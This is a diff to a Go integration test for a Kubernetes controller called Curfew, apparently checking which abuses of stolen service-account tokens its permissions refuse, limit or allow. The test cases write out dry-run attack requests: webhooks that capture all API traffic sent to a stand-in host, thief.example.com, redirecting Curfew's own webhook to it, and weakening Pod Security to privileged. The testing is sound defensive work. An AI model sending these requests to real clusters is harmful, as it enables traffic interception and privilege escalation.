@@ -32,6 +32,8 @@ const (
 		"subjects":[{"kind":"ServiceAccount","name":"curfew-controller","namespace":"` + harness.Namespace + `"}]}`
 	hookBody = `{"metadata":{"name":"thief"},"webhooks":[{"name":"thief.example.com","sideEffects":"None","admissionReviewVersions":["v1"],
 		"clientConfig":{"url":"https://thief.example.com/"},"rules":[{"apiGroups":["*"],"apiVersions":["*"],"operations":["*"],"resources":["*/*"]}]}]}`
+	pathBody = `{"metadata":{"name":"curfew-kinds"},"webhooks":[{"name":"a.curfew.dev","sideEffects":"None","admissionReviewVersions":["v1"],"failurePolicy":"Ignore",
+		"clientConfig":{"service":{"namespace":"` + harness.Namespace + `","name":"curfew-webhook","path":"/validate"}}}]}`
 	allRules = `{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}`
 	tokenFor = `{"type":"kubernetes.io/service-account-token","metadata":{"name":"thief","annotations":{"kubernetes.io/service-account.name":"curfew-controller"}}}`
 )
@@ -90,21 +92,30 @@ var stolen = map[string]struct{ refused, limited, allowed map[string]attempt }{
 			"asks what others may do":     {"POST", "/apis/authorization.k8s.io/v1/subjectaccessreviews", `{"spec":{"user":"admin","nonResourceAttributes":{"path":"/","verb":"get"}}}`},
 		},
 		limited: map[string]attempt{
-			"changes the image of a running Pod":  {"PATCH", ci + "/pods/victim", `{"spec":{"containers":[{"name":"victim","image":"thief"}]}}`},
-			"changes a label of a Pod":            {"PATCH", ci + "/pods/victim", `{"metadata":{"labels":{"run":"thief"}}}`},
-			"removes a label of a Pod":            {"PATCH", ci + "/pods/victim", `{"metadata":{"labels":{"run":null}}}`},
-			"changes an annotation of a Pod":      {"PATCH", ci + "/pods/victim", `{"metadata":{"annotations":{"example.com/own":"b"}}}`},
-			"removes an annotation of a Pod":      {"PATCH", ci + "/pods/victim", `{"metadata":{"annotations":{"example.com/own":null}}}`},
-			"adds a finalizer to a Pod":           {"PATCH", ci + "/pods/victim", `{"metadata":{"finalizers":["thief.example.com/a"]}}`},
-			"removes a finalizer of a Pod":        {"PATCH", ci + "/pods/victim", `{"metadata":{"$deleteFromPrimitiveList/finalizers":["example.com/own"]}}`},
-			"gives a Pod an owner":                {"PATCH", ci + "/pods/victim", `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"ConfigMap","name":"a","uid":"a"}]}}`},
+			"changes the image of a running Pod": {"PATCH", ci + "/pods/victim", `{"spec":{"containers":[{"name":"victim","image":"thief"}]}}`},
+			"changes a label of a Pod":           {"PATCH", ci + "/pods/victim", `{"metadata":{"labels":{"run":"thief"}}}`},
+			"removes a label of a Pod":           {"PATCH", ci + "/pods/victim", `{"metadata":{"labels":{"run":null}}}`},
+			"changes an annotation of a Pod":     {"PATCH", ci + "/pods/victim", `{"metadata":{"annotations":{"example.com/own":"b"}}}`},
+			"removes an annotation of a Pod":     {"PATCH", ci + "/pods/victim", `{"metadata":{"annotations":{"example.com/own":null}}}`},
+			"adds a finalizer to a Pod":          {"PATCH", ci + "/pods/victim", `{"metadata":{"finalizers":["thief.example.com/a"]}}`},
+			"removes a finalizer of a Pod":       {"PATCH", ci + "/pods/victim", `{"metadata":{"$deleteFromPrimitiveList/finalizers":["example.com/own"]}}`},
+			"gives a Pod an owner":               {"PATCH", ci + "/pods/victim", `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"ConfigMap","name":"a","uid":"a"}]}}`},
+			"weakens Pod Security by a status": {"PATCH", "/api/v1/namespaces/" + harness.Namespace + "/status",
+				`{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}`},
+			"adds a finalizer to a Namespace by its status": {"PATCH", "/api/v1/namespaces/" + harness.Namespace + "/status",
+				`{"metadata":{"finalizers":["thief.example.com/a"]}}`},
+			"adds a label to a Pod":               {"PATCH", ci + "/pods/victim", `{"metadata":{"labels":{"thief":"a"}}}`},
+			"gives a Pod a TTL annotation":        {"PATCH", ci + "/pods/victim", `{"metadata":{"annotations":{"curfew.dev/ttl-after-finished":"1s"}}}`},
+			"invents a key of Curfew's":           {"PATCH", ci + "/pods/victim", `{"metadata":{"annotations":{"curfew.dev/thief":"a"}}}`},
+			"gives a Namespace a default":         {"PATCH", ci, `{"metadata":{"annotations":{"curfew.dev/default-ttl":"1s"}}}`},
+			"sends requests to another path":      {"POST", registrations + "/mutatingwebhookconfigurations", pathBody},
+			"creates a webhook that sees all":     {"POST", registrations + "/mutatingwebhookconfigurations", hookBody},
+			"has requests sent to itself":         {"POST", registrations + "/mutatingwebhookconfigurations", strings.Replace(hookBody, `"name":"thief"`, `"name":"curfew-kinds"`, 1)},
 			"weakens Pod Security in a Namespace": {"PATCH", "/api/v1/namespaces/" + harness.Namespace, `{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}`},
 		},
 		allowed: map[string]attempt{
 			"deletes a Pod":                     {"DELETE", ci + "/pods/victim", ""},
-			"adds a label to a Pod":             {"PATCH", ci + "/pods/victim", `{"metadata":{"labels":{"thief":"a"}}}`},
 			"writes a key of Curfew's on a Pod": {"PATCH", ci + "/pods/victim", `{"metadata":{"annotations":{"curfew.dev/finished-at":"2026-01-01T00:00:00Z"}}}`},
-			"creates a webhook that sees all":   {"POST", registrations + "/mutatingwebhookconfigurations", hookBody},
 			"lists all Pods":                    {"GET", "/api/v1/pods", ""},
 			"reads roles":                       {"GET", rbacAPI + "/clusterroles", ""},
 		},
@@ -123,13 +134,16 @@ var stolen = map[string]struct{ refused, limited, allowed map[string]attempt }{
 		},
 		limited: map[string]attempt{
 			"creates a token of another account": {"POST", own + "/secrets", tokenFor},
+			"has requests sent to itself":        {"PATCH", registrations + "/mutatingwebhookconfigurations/curfew", `{"webhooks":[{"name":"defaults.curfew.dev","clientConfig":{"service":null,"url":"https://thief.example.com/"}}]}`},
+			"sees all requests":                  {"PATCH", registrations + "/validatingwebhookconfigurations/curfew", `{"webhooks":[{"name":"validate.curfew.dev","rules":[{"apiGroups":["*"],"apiVersions":["*"],"operations":["*"],"resources":["*/*"]}]}]}`},
+			"fails requests":                     {"PATCH", registrations + "/mutatingwebhookconfigurations/curfew", `{"webhooks":[{"name":"defaults.curfew.dev","failurePolicy":"Fail"}]}`},
 			"creates a Secret of its own":        {"POST", own + "/secrets", `{"metadata":{"name":"thief"},"type":"kubernetes.io/tls","data":{"tls.crt":"","tls.key":""}}`},
 		},
 		allowed: map[string]attempt{
-			"reads the CA's key":          {"GET", own + "/secrets/curfew-webhook-tls", ""},
-			"changes the static webhooks": {"PATCH", registrations + "/mutatingwebhookconfigurations/curfew", `{"metadata":{"labels":{"a":"b"}}}`},
-			"asks what others may do":     {"POST", "/apis/authorization.k8s.io/v1/subjectaccessreviews", `{"spec":{"user":"admin","nonResourceAttributes":{"path":"/","verb":"get"}}}`},
-			"reads every Namespace":       {"GET", "/api/v1/namespaces", ""},
+			"reads the CA's key":      {"GET", own + "/secrets/curfew-webhook-tls", ""},
+			"removes a CA bundle":     {"PATCH", registrations + "/mutatingwebhookconfigurations/curfew", `{"webhooks":[{"name":"defaults.curfew.dev","clientConfig":{"caBundle":null}}]}`},
+			"asks what others may do": {"POST", "/apis/authorization.k8s.io/v1/subjectaccessreviews", `{"spec":{"user":"admin","nonResourceAttributes":{"path":"/","verb":"get"}}}`},
+			"reads every Namespace":   {"GET", "/api/v1/namespaces", ""},
 		},
 	},
 }
@@ -149,6 +163,7 @@ func stealTokens(ctx context.Context, t *testing.T, cluster *harness.Cluster) {
 	defer func() {
 		must(t, kubectl(ctx, cluster, "patch", "pod", "victim", "-n", "ci", "--type=merge", "-p", `{"metadata":{"finalizers":null}}`))
 	}()
+	writeAllGranted(ctx, t, cluster)
 	const cleanup = "system:serviceaccount:" + harness.Namespace + ":curfew-cleanup"
 	for account, own := range stolen {
 		config, err := cluster.StealToken(ctx, account)
@@ -222,7 +237,7 @@ func (a attempt) send(ctx context.Context, t *testing.T, config *rest.Config) er
 	case "GET":
 	case "PATCH":
 		request.SetHeader("Content-Type", string(types.StrategicMergePatchType))
-		if !strings.HasPrefix(path, "/api/v1") {
+		if !strings.HasPrefix(path, "/api/v1") && !strings.Contains(path, "webhookconfigurations") {
 			request.SetHeader("Content-Type", string(types.MergePatchType))
 		}
 		request.Param("dryRun", "All").Body([]byte(a.body))
